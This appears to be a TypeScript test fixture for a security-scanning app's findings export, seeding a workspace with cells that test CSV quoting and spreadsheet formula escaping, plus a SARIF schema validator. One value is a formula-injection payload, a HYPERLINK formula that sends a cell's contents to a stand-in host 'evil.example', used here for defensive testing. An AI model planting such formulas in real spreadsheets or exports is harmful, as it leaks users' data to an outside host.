import { expect } from 'vitest';
import { readFileSync } from 'node:fs';
import { Ajv } from 'ajv';
import addFormats from 'ajv-formats';
import type { TestApp } from './app.js';
import { clientFor, type TestUser } from './client.js';

/**
 * Shared by the export tests (formats: exports.formats.test.ts; filters, permissions, errors, streaming and the
 * OpenAPI document: exports.access.test.ts): the routes, a raw downloader, and one workspace with tricky findings.
 */
export const FINDINGS = '/api/v1/api/vulnerabilities';
export const ASSETS = '/api/v1/api/assets';
export type Query = [string, string][];

/** The app is started by each test file's beforeAll, so the downloader takes it through a getter. */
export function exportRequests(app: () => TestApp) {
  /** The raw response: exports are not always JSON, and their headers matter. */
  async function download(as: TestUser | null, workspaceId: string | null, path: string, query: Query = []) {
    const qs = new URLSearchParams(query).toString();
    const headers: Record<string, string> = {};
    if (as) headers.authorization = `Bearer ${as.token}`;
    if (workspaceId) headers['x-workspace-id'] = workspaceId;
    const response = await fetch(`${app().url}${path}${qs ? `?${qs}` : ''}`, { headers });
    return { status: response.status, headers: response.headers, text: await response.text() };
  }

  const exportOf = (as: TestUser, workspaceId: string, path: string, query: Query) => download(as, workspaceId, `${path}/export`, query);
  return { download, exportOf };
}

/** Cells a spreadsheet would run as formulas, and cells that need RFC 4180 quoting. */
export const TRICKY = {
  formula: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  plus: '+1+2',
  minus: '-2+3',
  at: '@SUM(1,2)',
  tab: '\tindented',
  quoted: 'He said "hi", then left',
  multiline: 'line one\r\nline two\nline three',
};

export async function exportsWorkspace(server: TestApp) {
  const client = clientFor(server);
  const owner = await client.signUp('Exporter');
  const workspaceId = (await client.createWorkspace(owner, { name: 'Acme Prod, "EU" Ünit' })).id;
  const prisma = server.db.prisma;
  const web = await prisma.target.create({ data: { workspaceId, value: 'web.example.com', type: 'domain' } });
  const api = await prisma.target.create({ data: { workspaceId, value: 'api.example.com', type: 'domain' } });
  const site = await prisma.asset.create({
    data: {
      workspaceId,
      targetId: web.id,
      kind: 'web',
      key: 'web:https://web.example.com:443',
      value: 'https://web.example.com',
      data: { title: TRICKY.formula },
      targetLinks: { create: { targetId: web.id } },
    },
  });
  const host = await prisma.asset.create({
    data: {
      workspaceId,
      targetId: api.id,
      kind: 'host',
      key: 'host:api.example.com',
      value: 'api.example.com',
      data: {},
      targetLinks: { create: { targetId: api.id } },
    },
  });
  await prisma.asset.create({
    data: { workspaceId, targetId: api.id, kind: 'service', key: 'service:10.0.0.1:22/tcp', value: '10.0.0.1:22', data: {}, enabled: false },
  });
  const base = { workspaceId, source: 'nuclei', matcher: 'word', evidence: { url: 'https://web.example.com/login' } };
  const rows = [
    {
      name: 'SQL injection',
      severity: 'critical',
      checkId: 'sqli-login',
      assetId: site.id,
      targetId: web.id,
      description: TRICKY.quoted,
      remediation: TRICKY.multiline,
      classification: { cveId: ['CVE-2024-1234'], cweId: ['CWE-89'], cvssScore: 9.8 },
    },
    { name: TRICKY.formula, severity: 'high', checkId: 'admin-panel', assetId: site.id, targetId: web.id, description: TRICKY.plus, remediation: TRICKY.minus },
    { name: 'Missing HSTS', severity: 'medium', checkId: 'hsts-missing', assetId: host.id, targetId: api.id, description: TRICKY.at, remediation: TRICKY.tab },
    { name: 'Cookie without Secure', severity: 'low', checkId: 'cookie-secure', targetId: api.id, description: 'plain', remediation: 'plain', evidence: {} },
    { name: 'Old TLS', severity: 'high', checkId: 'tls-old', targetId: api.id, description: 'TLS 1.0', remediation: 'x', status: 'fixed', fixedAt: new Date() },
    {
      name: 'Banner',
      severity: 'info',
      checkId: 'banner',
      assetId: host.id,
      targetId: api.id,
      description: 'SSH banner',
      remediation: 'x',
      status: 'dismissed',
      dismissReason: 'accepted_risk',
      dismissComment: 'only staging',
      dismissedAt: new Date(),
    },
  ];
  for (const row of rows) {
    const created = await prisma.finding.create({ data: { ...base, fingerprint: `fp-${row.checkId}`, ...row } as never });
    await prisma.findingTarget.create({ data: { findingId: created.id, targetId: row.targetId } });
  }
  return { owner, workspaceId, targets: { web, api }, assets: { site, host } };
}

export type ExportsWorkspace = Awaited<ReturnType<typeof exportsWorkspace>>;

export const today = () => new Date().toISOString().slice(0, 10);

/**
 * The official schema is JSON Schema draft-04, which Ajv 8 does not ship: in memory (the vendored file stays
 * byte-exact) its one draft-04 spelling is translated, the root `id` to `$id`, and `$schema` names draft-07. Every
 * other keyword it uses (type, properties, required, enum, items, minItems, uniqueItems, pattern, format, $ref to
 * #/definitions, additionalProperties, default) means the same in both drafts; it has no exclusiveMinimum/Maximum,
 * the one keyword whose meaning changed (checked below).
 */
export function sarifValidator() {
  const fixture = readFileSync(new URL('../fixtures/sarif-schema-2.1.0.json', import.meta.url), 'utf8');
  const { id, $schema, ...schema } = JSON.parse(fixture) as { id: string; $schema: string } & Record<string, unknown>;
  expect($schema).toBe('http://json-schema.org/draft-04/schema#');
  expect(JSON.stringify(schema)).not.toMatch(/exclusiveM(in|ax)imum/);
  const ajv = new Ajv({ strict: false, allErrors: true });
  addFormats.default(ajv);
  return ajv.compile({ ...schema, $id: id, $schema: 'http://json-schema.org/draft-07/schema#' });
}
